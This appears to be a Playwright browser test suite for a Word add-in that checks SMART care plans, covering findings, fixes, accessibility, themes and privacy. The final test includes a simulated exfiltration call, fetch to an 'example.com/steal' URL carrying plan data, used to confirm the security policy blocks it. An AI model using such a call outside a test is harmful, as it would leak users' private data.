// The task pane in a real browser, against the built preview (globalSetup builds and serves dist/):
// what a practitioner, a supervisor and a trainer do, with screenshots in test-results/screenshots/.
import fs from 'fs';
import path from 'path';
import { chromium, type Browser, type Page } from 'playwright-core';

const ROOT = path.resolve(__dirname, '../..');
const SHOTS = path.join(ROOT, 'test-results', 'screenshots');

function environment(): { url: string; browser: string } {
  if (process.env.PREVIEW_URL && process.env.CHROMIUM_PATH) {
    return { url: process.env.PREVIEW_URL, browser: process.env.CHROMIUM_PATH };
  }
  return JSON.parse(fs.readFileSync(path.join(__dirname, '.env.json'), 'utf8'));
}

const { url: PREVIEW_URL, browser: CHROMIUM } = environment();
const ORIGIN = new URL(PREVIEW_URL).origin;

let browser: Browser;
let page: Page;
const requests: string[] = [];

async function shot(name: string): Promise<void> {
  await page.waitForTimeout(250); // let Fluent's short transitions finish, so the picture is what a user sees
  await page.screenshot({ path: path.join(SHOTS, `${name}.png`) });
}

const pane = () => page.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
const documentArea = () => page.getByRole('main', { name: 'Document' });
/** Row cards. */
const rowCards = () => pane().getByRole('article');
/** The points inside the row cards. */
const cards = () => pane().locator('[role="article"] li[data-finding-id]');

/** A .docx built by the project's own .docx code, for the preview's file input. */
async function docxFile(name: string, make: () => Promise<Uint8Array>) {
  return {
    name,
    mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    buffer: Buffer.from(await make()),
  };
}

/**
 * After a check: every row of the list has its place, and the rows near view are drawn as their cards
 * (the others are placeholders, marked busy, until they are scrolled near).
 */
async function rowsDrawn(where: Page = page): Promise<void> {
  await where.waitForFunction(() => {
    const aside = document.querySelector('aside[aria-label="SMART Plan Checker task pane"]');
    const count = aside?.querySelector('[data-testid="list-count"]')?.textContent ?? '';
    const rows = Number(count.match(/ in (\d+) rows?\.$/)?.[1] ?? 0);
    const panel = aside?.querySelector('[role="tabpanel"]:not([hidden])')?.getBoundingClientRect();
    const listed = [...(aside?.querySelectorAll('[role="article"]') ?? [])];
    return (
      panel !== undefined &&
      listed.length >= rows &&
      listed.every((a) => a.getAttribute('aria-busy') !== 'true' || a.getBoundingClientRect().top > panel.bottom)
    );
  });
}

/** Scrolls the pane through to the end a screen at a time, as a user reading every row would, so every row is drawn as its card. */
async function drawEveryRow(where: Page = page): Promise<void> {
  await rowsDrawn(where);
  await where.evaluate(() => document.querySelector('aside [role="tabpanel"]:not([hidden])')!.scrollTo(0, 0));
  await where.waitForFunction(() => {
    const panel = document.querySelector('aside [role="tabpanel"]:not([hidden])')!;
    panel.scrollBy(0, panel.clientHeight);
    return !document.querySelector('aside [role="article"][aria-busy="true"]');
  });
  await where.evaluate(() => document.querySelector('aside [role="tabpanel"]:not([hidden])')!.scrollTo(0, 0));
}

async function checkPlan(): Promise<void> {
  await pane().getByRole('button', { name: 'Check plan' }).click();
  await pane().getByTestId('check-summary').waitFor();
  await drawEveryRow();
}

beforeAll(async () => {
  fs.mkdirSync(SHOTS, { recursive: true });
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'],
  });
  page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  page.on('request', (request) => requests.push(request.url()));
  await page.goto(PREVIEW_URL);
  await pane().getByRole('button', { name: 'Check plan' }).waitFor();
  await documentArea().getByRole('table').first().waitFor();
});

afterAll(async () => {
  await browser?.close();
});

describe('the task pane in the browser preview', () => {
  it('checks the sample plan and shows the summary and the findings row by row', async () => {
    await shot('01-opened');
    await checkPlan();
    const summary = pane().getByTestId('check-summary');
    await summary.getByText(/out of 100/).waitFor();
    expect(await summary.getByRole('meter').count()).toBe(5);
    expect(await cards().count()).toBeGreaterThan(0);
    await shot('02-checked');
  });

  it('shows one card per row, named as the user counts rows, with the column by its header words', async () => {
    const labels = await rowCards().evaluateAll((cards) =>
      cards.map((c) => c.querySelector('h3')?.firstChild?.textContent),
    );
    expect(labels).toEqual(['Row 1', 'Row 2', 'Row 3', 'Row 4', 'Row 5']);
    const firstRow = rowCards().first();
    expect(await firstRow.getByText('In “Outcome”').count()).toBeGreaterThan(0);
    expect(await firstRow.getByText('In “Assessed need”').count()).toBeGreaterThan(0);
  });

  it('gives the same counts in the summary, the list and the cards, and no rule ids or doubled full stops', async () => {
    const summaryText = (await pane().getByTestId('summary-count').textContent()) ?? '';
    const listText = (await pane().getByTestId('list-count').textContent()) ?? '';
    const points = await cards().count();
    const rows = await rowCards().count();
    const [, total, inRows, rowCount, plan] =
      summaryText.match(/^(\d+) points: (\d+) in (\d+) rows and (\d+) about/) ?? [];
    expect(Number(inRows)).toBe(points);
    expect(Number(rowCount)).toBe(rows);
    expect(Number(total)).toBe(points + Number(plan));
    expect(listText).toBe(`${points} points in ${rows} rows.`);
    const badges = await pane().getByTestId('check-summary').locator('.fui-Badge').allTextContents();
    expect(badges.reduce((sum, b) => sum + Number(b.match(/^\d+/)?.[0] ?? 0), 0)).toBe(Number(total));
    expect(badges.join(' ')).toMatch(/\b0 tips\b|\b1 tip\b|\b\d+ tips\b/);
    const text = await pane().innerText();
    expect(text).not.toMatch(/\.\.(?!\.)/);
    expect(text).not.toMatch(/\b(no-measure|no child voice|no-child-voice|open-timescale|self-report-only)\b/);
    expect(text).not.toMatch(/\b1 (points|rows|tips)\b/);
  });

  it('applies one quick fix; the other points and the marks stay', async () => {
    await pane().getByRole('button', { name: 'Mark all in document' }).click();
    await pane()
      .getByText(/^Marked \d+ place/)
      .waitFor();
    const commentsBefore = await page.getByTestId('doc-comment').count();
    const card = cards()
      .filter({ has: page.getByRole('button', { name: 'Apply' }) })
      .first();
    const cell = await card.getAttribute('data-cell');
    const listed = () =>
      cards().evaluateAll((items) =>
        items.map((i) => [i.getAttribute('data-finding-id'), i.getAttribute('data-cell')]),
      );
    const before = await listed();
    // Points in other rows: the edited row is judged afresh (its other cells may now be fine), the rest not.
    const row = cell!.split('-').slice(0, 2).join('-');
    const others = before.filter(([, c]) => !c!.startsWith(`${row}-`)).map(([id]) => id);
    const sameCell = before.length - others.length;
    const editor = card.getByRole('textbox', { name: /Quick fix/ });
    const apply = card.getByRole('button', { name: 'Apply' });
    expect(await editor.inputValue()).toMatch(/\[[^\]]+\]/); // the sample's fixes ask for what only the author knows
    expect(await apply.isDisabled()).toBe(true);
    await card.getByText(/^Fill in the (gap|\d+ gaps) first/).waitFor();
    const rewrite = (await editor.inputValue()).replace(/\[[^\]]+\]/g, 'Ms Green on 14 March') + ' (agreed at review)';
    await editor.fill(rewrite);
    await apply.click();
    await pane()
      .getByText(/Rewrite (applied|added as a tracked change)/)
      .waitFor();
    await documentArea().getByText('(agreed at review)', { exact: false }).first().waitFor();
    await shot('03-applied');
    // Every point in the other rows is still listed, and the document keeps their comments.
    const after = (await listed()).map(([id]) => id);
    expect(others.filter((id) => !after.includes(id))).toEqual([]);
    expect(await page.getByTestId('doc-comment').count()).toBeGreaterThanOrEqual(commentsBefore - sameCell);
    await pane().getByRole('button', { name: 'Clear marks' }).click();
  });

  it('ignores a finding, and it stays ignored after checking again', async () => {
    await checkPlan();
    const before = await cards().count();
    const first = cards().first();
    const quote = (await first.locator('blockquote').textContent()) ?? '';
    await first.getByRole('button', { name: 'Ignore', exact: true }).click();
    await pane()
      .getByText(/ignored in this document/)
      .waitFor();
    expect(await cards().count()).toBe(before - 1);
    await checkPlan();
    expect(await cards().count()).toBe(before - 1);
    expect(quote).not.toBe('');
  });

  it('marks every finding in the document and clears exactly those marks', async () => {
    await pane().getByRole('button', { name: 'Mark all in document' }).click();
    await pane()
      .getByText(/^Marked \d+ place/)
      .waitFor();
    await shot('04-marked');
    await pane().getByRole('button', { name: 'Clear marks' }).click();
    await pane()
      .getByText(/^Removed \d+ marks?\./)
      .waitFor();
    await shot('05-cleared');
  });

  it('filters by SMART letter', async () => {
    const all = await cards().count();
    await pane().getByRole('button', { name: 'Only Timely' }).click();
    const timely = await cards().count();
    expect(timely).toBeLessThanOrEqual(all);
    await pane()
      .getByText(timely === 0 ? /Nothing matches these filters/ : /^Showing \d+ of \d+ points? in the rows\.$/)
      .waitFor();
    await pane().getByRole('button', { name: 'Only Timely' }).click();
    expect(await cards().count()).toBe(all);
  });

  it('has no serious or critical accessibility problem (axe-core)', async () => {
    // Through the DevTools protocol: the page's own policy rightly refuses an injected inline script.
    await page.evaluate(fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8'));
    type Violation = { id: string; impact: string; help: string; nodes: Array<{ html: string; target: unknown }> };
    const violations: Violation[] = await page.evaluate(
      async () =>
        // eslint-disable-next-line @typescript-eslint/no-explicit-any
        ((await (window as any).axe.run(document, { resultTypes: ['violations'] })) as { violations: never[] })
          .violations,
    );
    // Fluent's focus manager (Tabster) places aria-hidden focus redirectors marked data-tabster-dummy:
    // a known false positive of aria-hidden-focus (microsoft/tabster#288), left out; nothing else is.
    const real = violations
      .map((v) => ({
        ...v,
        nodes: v.id === 'aria-hidden-focus' ? v.nodes.filter((n) => !n.html.includes('data-tabster-dummy')) : v.nodes,
      }))
      .filter((v) => v.nodes.length > 0 && (v.impact === 'serious' || v.impact === 'critical'));
    expect(real.map((v) => `${v.id}: ${v.help} ${JSON.stringify(v.nodes.map((n) => n.target))}`)).toEqual([]);
  });

  it('follows the theme: dark and high contrast', async () => {
    const background = () =>
      pane().evaluate(
        (element) => getComputedStyle(element.querySelector('[role="tabpanel"]')!.parentElement!).backgroundColor,
      );
    const light = await background();
    await page.getByRole('button', { name: 'Dark', exact: true }).click();
    await shot('06-dark');
    const dark = await background();
    expect(dark).not.toBe(light);
    const [r, g, b] = dark.match(/\d+/g)!.map(Number);
    expect(0.2126 * r + 0.7152 * g + 0.0722 * b).toBeLessThan(80);
    await page.getByRole('button', { name: 'High contrast', exact: true }).click();
    await shot('07-high-contrast');
    expect(await background()).not.toBe(light);
    await page.getByRole('button', { name: 'Light', exact: true }).click();
  });

  it('is usable at the narrowest pane width, 320 px: opens at the top, nothing clipped, all by keyboard', async () => {
    const narrow = await browser.newPage({ viewport: { width: 320, height: 800 } });
    await narrow.goto(PREVIEW_URL);
    const aside = narrow.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
    await aside.getByRole('button', { name: 'Check plan' }).waitFor();
    await narrow.waitForTimeout(250);
    await narrow.screenshot({ path: path.join(SHOTS, '08a-narrow-opened.png') });
    // The pane's title and tabs are on screen when it opens, not scrolled away above.
    const title = await aside.getByRole('heading', { name: 'SMART Plan Checker' }).boundingBox();
    expect(title!.y).toBeGreaterThanOrEqual(0);
    expect(title!.y + title!.height).toBeLessThan(800);

    await aside.getByRole('button', { name: 'Check plan' }).click();
    await aside.getByTestId('check-summary').waitFor();
    const layout = await aside.evaluate((element) => {
      const pane = element.getBoundingClientRect();
      const boxes = [...element.querySelectorAll('[role="article"], [data-testid="check-summary"], button, textarea')];
      return {
        width: pane.width,
        pageOverflow: document.documentElement.scrollWidth - window.innerWidth,
        outside: boxes
          .filter((box) => box.getBoundingClientRect().right > pane.right + 1)
          .map((b) => b.outerHTML.slice(0, 80)),
        cards: boxes.length,
      };
    });
    expect(layout.width).toBeGreaterThanOrEqual(300);
    expect(layout.pageOverflow).toBeLessThanOrEqual(0);
    expect(layout.cards).toBeGreaterThan(1);
    expect(layout.outside).toEqual([]);
    await narrow.waitForTimeout(250);
    await narrow.screenshot({ path: path.join(SHOTS, '08-narrow.png') });

    // Tab from the top of the pane: every control of the summary and the first row card gets focus in turn.
    await aside.getByRole('button', { name: 'Check plan' }).focus();
    const firstCard = aside.getByRole('article').first();
    const wanted = await aside.evaluate((element) => {
      const card = element.querySelector('[role="article"]')!;
      const controls = [...element.querySelectorAll('button, textarea, input, summary, [role="switch"]')].filter(
        (c) =>
          !(c as HTMLButtonElement).disabled &&
          (c.compareDocumentPosition(card) & Node.DOCUMENT_POSITION_FOLLOWING || card.contains(c)) &&
          c.closest('[role="tablist"]') === null,
      );
      controls.forEach((c, i) => c.setAttribute('data-reach', String(i)));
      return controls.length;
    });
    const reached = new Set<string>(['0']); // Check plan, where the walk starts
    for (let press = 0; press < 160 && reached.size < wanted; press++) {
      await narrow.keyboard.press('Tab');
      const mark = await narrow.evaluate(
        () =>
          document.activeElement?.closest('[data-reach]')?.getAttribute('data-reach') ??
          document.activeElement?.getAttribute('data-reach'),
      );
      if (mark) reached.add(mark);
    }
    expect(wanted).toBeGreaterThan(8);
    const unreached = await aside.evaluate(
      (element, seen) =>
        [...element.querySelectorAll('[data-reach]')]
          .filter((c) => !seen.includes(c.getAttribute('data-reach')!))
          .map((c) => c.outerHTML.slice(0, 160)),
      [...reached],
    );
    expect(unreached).toEqual([]);
    expect(await firstCard.isVisible()).toBe(true);
    await narrow.close();
  });

  it('checks a 200-row plan at 320 px: every row listed, the last row’s card there at the end, counts agree', async () => {
    const long = await browser.newPage({ viewport: { width: 320, height: 800 } });
    await long.goto(PREVIEW_URL);
    const { DocxPlanDocument } = await import('../../src/docx');
    const { buildTemplate } = await import('../../src/engine/templates');
    const file = await docxFile('two-hundred-rows.docx', async () => {
      const spec = buildTemplate('childs-care-plan', { rows: 1 });
      spec.rows = Array.from({ length: 200 }, (_, i) => [
        { text: `Child needs to be healthy (${i + 1}).` },
        { text: 'Child will be seen regularly by the health visitor.' },
        { text: 'Health visitor to visit - on-going.' },
        { text: '' },
      ]);
      return (await DocxPlanDocument.create(spec)).save();
    });
    await long.getByLabel('Open a Word document').setInputFiles(file);
    await long.getByText('two-hundred-rows.docx').waitFor();
    const aside = long.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
    await aside.getByRole('button', { name: 'Check plan' }).click();
    await aside.getByTestId('check-summary').waitFor();
    await rowsDrawn(long);

    // Every row is in the list, in order, each saying how many points it has; together they make the count.
    const listCount = (await aside.getByTestId('list-count').textContent()) ?? '';
    const [, points, rows] = listCount.match(/^(\d+) points in (\d+) rows\.$/) ?? [];
    expect(Number(rows)).toBe(200);
    const summaryCount = (await aside.getByTestId('summary-count').textContent()) ?? '';
    expect(summaryCount).toContain(`${points} in 200 rows`);
    const listed = await aside.getByRole('article').evaluateAll((articles) =>
      articles.map((a) => ({
        heading: a.querySelector('h3')?.firstChild?.textContent,
        points: Number(a.textContent?.match(/(\d+) points? in this row/)?.[1]),
        drawn: a.getAttribute('aria-busy') !== 'true',
      })),
    );
    expect(listed.map((r) => r.heading)).toEqual(Array.from({ length: 200 }, (_, i) => `Row ${i + 1}`));
    expect(listed.reduce((sum, r) => sum + r.points, 0)).toBe(Number(points));
    expect(listed[0].drawn).toBe(true);
    expect(listed[199].drawn).toBe(false);
    await long.waitForTimeout(250);
    await long.screenshot({ path: path.join(SHOTS, '14-long-plan-checked.png') });

    // Scrolled to the end of the pane, the last row is there as its card, on screen, with its points.
    const panel = aside.locator('[role="tabpanel"]:not([hidden])');
    const lastRow = aside.getByRole('article').last();
    await long.waitForFunction(() => {
      const element = document.querySelector('aside [role="tabpanel"]:not([hidden])')!;
      element.scrollTo(0, element.scrollHeight);
      const articles = document.querySelectorAll('aside [role="article"]');
      return articles[articles.length - 1]?.getAttribute('aria-busy') !== 'true';
    });
    await lastRow.getByRole('button', { name: 'Go to' }).first().scrollIntoViewIfNeeded();
    expect(await lastRow.locator('h3').first().textContent()).toMatch(/^Row 200/);
    expect(await lastRow.locator('li[data-finding-id]').count()).toBe(listed[199].points);
    expect(await lastRow.getByRole('button', { name: 'Go to' }).first().isVisible()).toBe(true);
    const panelBox = (await panel.boundingBox())!;
    const lastBox = (await lastRow.boundingBox())!;
    expect(lastBox.y).toBeLessThan(panelBox.y + panelBox.height);
    expect(lastBox.y + lastBox.height).toBeGreaterThan(panelBox.y);
    await long.waitForTimeout(250);
    await long.screenshot({ path: path.join(SHOTS, '15-long-plan-end.png') });
    // The counts have not moved with the scrolling.
    expect(await aside.getByTestId('list-count').textContent()).toBe(listCount);
    await long.close();
  });

  it('in forced colours, marked words stay visible and the SMART bars differ at 0 and 91', async () => {
    const contrast = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await contrast.emulateMedia({ forcedColors: 'active', colorScheme: 'dark' });
    await contrast.goto(PREVIEW_URL);
    const aside = contrast.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
    await aside.getByRole('button', { name: 'Check plan' }).click();
    await aside.getByTestId('check-summary').waitFor();
    await aside.getByRole('button', { name: 'Mark all in document' }).click();
    await aside.getByText(/^Marked \d+ place/).waitFor();
    const marked = await contrast.evaluate(() => {
      const spans = [...document.querySelectorAll('main span')].filter((s) => (s as HTMLElement).style.background);
      const style = spans[0] && getComputedStyle(spans[0]);
      return {
        count: spans.length,
        outline: style?.outlineStyle,
        outlineWidth: style?.outlineWidth,
        background: style?.backgroundColor,
      };
    });
    expect(marked.count).toBeGreaterThan(0);
    expect(marked.outline).toBe('solid');
    expect(marked.outlineWidth).not.toBe('0px');
    const bars = await aside.getByRole('meter').evaluateAll((meters) =>
      meters.map((m) => {
        const fill = m.firstElementChild as HTMLElement;
        return {
          score: Number(m.getAttribute('aria-valuenow')),
          filled: fill.getBoundingClientRect().width,
          track: getComputedStyle(m).backgroundColor,
          fillColour: getComputedStyle(fill).backgroundColor,
          outline: getComputedStyle(m).outlineStyle,
        };
      }),
    );
    const zero = bars.find((b) => b.score === 0);
    const high = bars.find((b) => b.score >= 90);
    expect(zero && high).toBeTruthy();
    expect(zero!.filled).toBe(0);
    expect(high!.filled).toBeGreaterThan(20);
    expect(high!.fillColour).not.toBe(high!.track);
    expect(zero!.outline).toBe('solid');
    await contrast.waitForTimeout(250);
    await contrast.screenshot({ path: path.join(SHOTS, '11-forced-colours.png') });
    await contrast.close();
  });

  it('runs the Learn demonstration from the keyboard, on the sample already open, with complete worked versions', async () => {
    // A fresh preview: the sample plan as it opens (earlier tests have edited the shared page's copy).
    const shared = page;
    page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(PREVIEW_URL);
    await pane().getByRole('button', { name: 'Check plan' }).waitFor();
    // The pane is drawn while the sample plan is still being made: wait for the plan itself.
    await documentArea().getByRole('table').first().waitFor();
    const tablesBefore = await documentArea().getByRole('table').count();
    await pane().getByRole('tab', { name: 'Learn' }).click();
    await pane().getByRole('button', { name: 'Insert practice plan' }).first().click();
    const step = pane().getByText(/^Point \d+ of \d+/);
    await step.waitFor();
    // The preview opens on this practice plan: it is used, not inserted a second time.
    expect(await documentArea().getByRole('table').count()).toBe(tablesBefore);
    expect(await step.textContent()).toMatch(/· row 1$/);
    const first = await step.textContent();
    await shot('09-learn');
    await page.locator('body').press('n');
    await page.waitForFunction((text) => !document.body.innerText.includes(text ?? ''), first);
    expect(await step.textContent()).toMatch(/^Point 2 of/);
    await page.locator('body').press('p');
    await pane()
      .getByText(/^Point 1 of/)
      .waitFor();
    // Worked versions are finished rows: no [gap] in any of them.
    for (let i = 0; i < 6; i++) {
      const worked = pane().getByRole('heading', { name: 'Worked SMART version' });
      if (await worked.count()) {
        const text = (await worked.locator('xpath=following-sibling::p[1]').textContent()) ?? '';
        expect(text).not.toMatch(/\[[^\]]*\]/);
      }
      await page.locator('body').press('n');
    }
    // Go to brings the row into view in the document, however far it is scrolled.
    await documentArea().evaluate((element) => element.scrollTo(0, element.scrollHeight));
    await page.setViewportSize({ width: 1280, height: 400 });
    await page.locator('body').press('g');
    await page.waitForFunction(() => {
      const cell = document.querySelector('main td[style*="outline"]');
      const area = document.querySelector('main')!.getBoundingClientRect();
      const box = cell?.getBoundingClientRect();
      return Boolean(box && box.bottom > area.top && box.top < area.bottom);
    });
    await shot('09b-learn-go-to');
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.locator('body').press('p');
    const total = Number((await step.textContent())!.match(/of (\d+)/)![1]);
    const worked = pane().getByRole('button', { name: /Use worked version|Apply suggestion/ });
    expect(await worked.count()).toBeGreaterThan(0);
    await page.locator('body').press(
      (await pane()
        .getByRole('button', { name: /Use worked version/ })
        .count())
        ? 'w'
        : 'a',
    );
    await page.waitForFunction((before) => {
      const match = document.body.innerText.match(/Point \d+ of (\d+)/);
      return !match || Number(match[1]) < before;
    }, total);
    await shot('10-learn-applied');
    await page.close();
    page = shared;
  });

  it('reads a fresh template as not filled in yet, with no score', async () => {
    const fresh = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await fresh.goto(PREVIEW_URL);
    const { DocxPlanDocument } = await import('../../src/docx');
    const { buildTemplate } = await import('../../src/engine/templates');
    const file = await docxFile('blank-dcs.docx', async () =>
      (await DocxPlanDocument.create(buildTemplate('dcs', { planDate: '2025-03-03' }))).save(),
    );
    await fresh.getByLabel('Open a Word document').setInputFiles(file);
    await fresh.getByText('blank-dcs.docx').waitFor();
    const aside = fresh.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
    await aside.getByRole('button', { name: 'Check plan' }).click();
    const summary = aside.getByTestId('check-summary');
    await summary.getByText('Not filled in yet').waitFor();
    expect(await summary.textContent()).not.toMatch(/out of 100|Clear and SMART/);
    await fresh.waitForTimeout(250);
    await fresh.screenshot({ path: path.join(SHOTS, '12-not-filled-in.png') });
    await fresh.close();
  });

  it('draws what the .docx shows: shading, a vertically merged cell as one tall cell, headings; favicon served', async () => {
    const view = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const missing: string[] = [];
    view.on('response', (response) => response.status() >= 400 && missing.push(response.url()));
    await view.goto(PREVIEW_URL);
    const JSZip = (await import('jszip')).default;
    const { newPackageParts } = await import('../../src/docx/build');
    const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
    const cell = (text: string, props = '') =>
      `<w:tc><w:tcPr>${props}</w:tcPr><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:tc>`;
    const body = `<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Family plan</w:t></w:r></w:p>
      <w:tbl><w:tblPr/><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>
      <w:tr>${cell('Outcome', '<w:shd w:val="clear" w:color="auto" w:fill="C6E0B4"/>')}${cell('Who will be responsible?', '<w:shd w:val="clear" w:color="auto" w:fill="C6E0B4"/>')}</w:tr>
      <w:tr>${cell('Sam will be in school every day.', '<w:vMerge w:val="restart"/>')}${cell('Mum')}</w:tr>
      <w:tr>${cell('', '<w:vMerge/>')}${cell('School')}</w:tr></w:tbl>`;
    const file = await docxFile('merged.docx', async () => {
      const zip = new JSZip();
      for (const [name, content] of Object.entries(newPackageParts('Merged'))) zip.file(name, content);
      zip.file(
        'word/document.xml',
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}"><w:body>${body}<w:sectPr/></w:body></w:document>`,
      );
      return zip.generateAsync({ type: 'uint8array' });
    });
    await view.getByLabel('Open a Word document').setInputFiles(file);
    const main = view.getByRole('main', { name: 'Document' });
    await main.getByRole('heading', { name: 'Family plan' }).waitFor();
    const drawn = await main.evaluate((element) => {
      const cells = [...element.querySelectorAll('td')];
      const heading = element.querySelector('[role="heading"]') as HTMLElement;
      return {
        cells: cells.length,
        tall: cells.filter((c) => c.rowSpan === 2).map((c) => c.textContent),
        shading: getComputedStyle(cells[0]).backgroundColor,
        headingSize: parseFloat(getComputedStyle(heading).fontSize),
        bodySize: parseFloat(getComputedStyle(cells[2]).fontSize),
      };
    });
    expect(drawn.cells).toBe(5);
    expect(drawn.tall).toEqual(['Sam will be in school every day.']);
    expect(drawn.shading).toBe('rgb(198, 224, 180)');
    expect(drawn.headingSize).toBeGreaterThan(drawn.bodySize);
    await view.waitForTimeout(250);
    await view.screenshot({ path: path.join(SHOTS, '13-preview-rendering.png') });
    const icon = await view.evaluate(
      () => (document.querySelector('link[rel~="icon"]') as HTMLLinkElement | null)?.href,
    );
    expect(icon).toBeTruthy();
    expect((await view.request.get(icon!)).status()).toBe(200);
    expect(missing).toEqual([]);
    await view.close();
  });

  it('never sends a request off the machine', () => {
    const external = requests.filter((url) => !url.startsWith(ORIGIN) && !/^(data|blob):/.test(url));
    expect(external).toEqual([]);
    expect(requests.length).toBeGreaterThan(0);
  });

  it('keeps everything on the machine by policy: a request to another host is blocked by the browser', async () => {
    const policy = await page.evaluate(
      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
    );
    expect(policy).toMatch(/connect-src 'self'/);
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    const violations: string[] = [];
    await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive));
    const outcome = await page.evaluate(async () => {
      document.addEventListener('securitypolicyviolation', (event) =>
        (window as unknown as { reportViolation(d: string): void }).reportViolation(event.effectiveDirective),
      );
      try {
        await fetch('https://example.com/steal?plan=1', { mode: 'no-cors' });
        return 'sent';
      } catch {
        return 'blocked';
      }
    });
    expect(outcome).toBe('blocked');
    await page.waitForTimeout(100);
    expect(violations).toContain('connect-src');
    // The task pane Word loads has the same policy, with Office's script host as its only other source.
    const taskpane = fs.readFileSync(path.join(ROOT, 'dist', 'taskpane.html'), 'utf8');
    expect(taskpane).toMatch(/script-src 'self' https:\/\/appsforoffice\.microsoft\.com;/);
    expect(taskpane).toMatch(/connect-src 'self'/);
    expect(fs.readdirSync(path.join(ROOT, 'dist')).filter((f) => f.endsWith('.map'))).toEqual([]);
  });
});
